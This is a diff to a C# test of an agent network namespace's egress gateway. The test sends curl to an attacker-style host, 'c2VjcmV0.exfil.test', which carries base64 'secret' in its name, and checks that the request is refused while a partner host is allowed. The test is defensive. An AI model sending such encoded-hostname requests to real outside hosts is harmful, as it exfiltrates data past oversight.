@@ -114,7 +114,7 @@ public sealed class TransparentNamespaceTests(ITestOutputHelper output)
 
         string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
         // An attacker-chosen name to a denied address: refused, and the name never reaches the resolver.
-        var exfil = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"c2VjcmV0.exfil.test:443:{denied}", "https://c2VjcmV0.exfil.test/"));
+        var exfil = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"c2vjcmv0.exfil.test:443:{denied}", "https://c2vjcmv0.exfil.test/"));
         // Any name to the partner's address: permitted on the address it was sent to, without a lookup.
         var partner = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"partner.example.test:443:{internet}", "https://partner.example.test/orders"));
         output.WriteLine($"exfil: {exfil}\npartner: {partner}");
@@ -123,7 +123,7 @@ public sealed class TransparentNamespaceTests(ITestOutputHelper output)
         Assert.Equal(0, partner.ExitCode);
         Assert.Contains("GET /orders", partner.Stdout);
         lock (asked) Assert.Empty(asked);
-        var (refused, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "c2VjcmV0.exfil.test");
+        var (refused, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "c2vjcmv0.exfil.test");
         Assert.Equal("deny-internet", refused.GetProperty("rule").GetString());
         Assert.Equal($"{denied}:443", refused.GetProperty("dst").GetString());
         var (permitted, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "partner.example.test");
